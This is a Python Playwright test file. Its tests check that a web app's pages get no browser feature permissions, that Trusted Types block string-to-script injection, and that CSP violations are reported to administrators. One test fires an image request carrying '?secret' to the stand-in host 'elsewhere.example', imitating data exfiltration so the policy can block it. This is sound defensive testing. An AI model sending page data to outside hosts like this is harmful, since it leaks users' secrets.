"""A real browser obeys: on a desk nothing of it can be used, and no string becomes a script."""

from __future__ import annotations

from playwright.sync_api import Page

from tests.browser.desks import Demo

#: What our own pages may use, and hints about the browser that no header asks for.
LEFT = {"publickey-credentials-get", "publickey-credentials-create", "aria-notify"}


def powers(page: Page) -> set[str]:
    """Return what the page in view may use."""
    allowed = page.evaluate("document.featurePolicy.allowedFeatures()")
    return {each for each in allowed if not each.startswith("ch-")}


def test_a_desk_can_use_no_power_of_the_browser(demo: Demo) -> None:
    page = demo.at_desk("inspector").new_page()
    page.goto("/inspector")
    assert powers(page) <= LEFT


def test_a_string_is_never_a_script_on_a_desk(demo: Demo) -> None:
    page = demo.at_desk("inspector").new_page()
    page.goto("/inspector")
    refused = page.evaluate(
        "(() => { const tries = {"
        "markup: () => { document.body.innerHTML = '<b>x</b>' },"
        "script: () => { document.createElement('script').src = '/static/x.js' },"
        "policy: () => { trustedTypes.createPolicy('mine', {createHTML: text => text}) },"
        "}; return Object.keys(tries).filter(each => { try { tries[each](); return false } catch (error)"
        " { return error instanceof TypeError } }) })()"
    )
    assert refused == ["markup", "script", "policy"]


def test_what_a_desk_refuses_is_counted(demo: Demo) -> None:
    before = demo.refusals()
    page = demo.at_desk("inspector").new_page()
    page.goto("/inspector")
    with page.expect_request("**/csp-report") as sent:
        page.evaluate("(() => { new Image().src = 'https://elsewhere.example/x.png?secret' })()")
    answer = sent.value.response()
    assert answer is not None
    assert answer.status == 204
    assert demo.refusals() > before
    administrator = demo.at_desk("administrator").new_page()
    administrator.goto("/admin/alarms")
    shown = administrator.locator("main").inner_text()
    assert "https://elsewhere.example" in shown
    assert "secret" not in shown
